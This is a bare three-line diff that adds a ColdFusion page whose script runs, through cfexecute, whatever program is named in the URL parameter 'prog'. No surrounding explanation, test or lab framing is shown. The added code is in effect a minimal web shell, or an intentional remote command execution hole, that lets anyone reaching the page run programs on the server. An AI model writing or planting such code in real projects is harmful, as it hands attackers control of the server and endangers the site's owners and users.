@@ -1,0 +1,3 @@
+<cfscript>
+cfexecute(name = url.prog, arguments = "", variable = "o", timeout = 5);
+</cfscript>
